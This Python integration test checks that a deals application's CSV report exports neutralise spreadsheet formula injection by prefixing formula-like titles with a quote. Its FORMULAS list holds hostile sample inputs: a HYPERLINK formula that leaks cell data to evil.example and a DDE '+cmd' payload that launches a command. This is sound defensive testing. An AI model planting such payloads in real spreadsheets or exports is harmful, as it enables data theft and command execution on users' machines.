"""A report exported as CSV is opened in a spreadsheet by a director: a deal title or a stage
name someone typed as a formula (=HYPERLINK(...), +cmd|...) arrives there as the text it is,
never as a formula the spreadsheet would run; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from tests.deals.integration.helpers import API, counterparty, deal, pipeline
from tests.support import Suite

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]


@pytest.fixture(scope="module")
def suite(sqlite_suite: Suite) -> Suite:
    return sqlite_suite


def cells(reply: object) -> list[str]:
    text = reply.get_data(as_text=True)  # type: ignore[attr-defined]
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_text_that_looks_like_a_formula_is_exported_as_text(suite: Suite) -> None:
    admin = suite.headers()
    stages = [{"name": name, "probability": 10 * n} for n, name in enumerate(FORMULAS, 1)]
    process = pipeline(suite, admin, "simple", stages)
    buyer = counterparty(suite, admin)
    soon = str(date.today() + timedelta(days=10))
    for title in FORMULAS:
        deal(suite, admin, process["id"], buyer["id"], title=title, amount="1500.50", currency="VND", expected_close_date=soon)  # fmt: skip
    suite.deliver_events()
    wanted = {"format": "csv", "pipeline_id": process["id"]}
    exports = [
        suite.client.get(f"{API}/analytics/{report}", query_string=wanted, headers=admin)
        for report in ("closing-plan", "funnel")
    ]
    for reply in exports:
        assert reply.status_code == 200 and reply.mimetype == "text/csv"
        exported = cells(reply)
        for formula in FORMULAS:
            assert formula not in exported, (formula, exported)
            assert "'" + formula in exported, (formula, exported)
    assert "1500.50" in cells(exports[0])
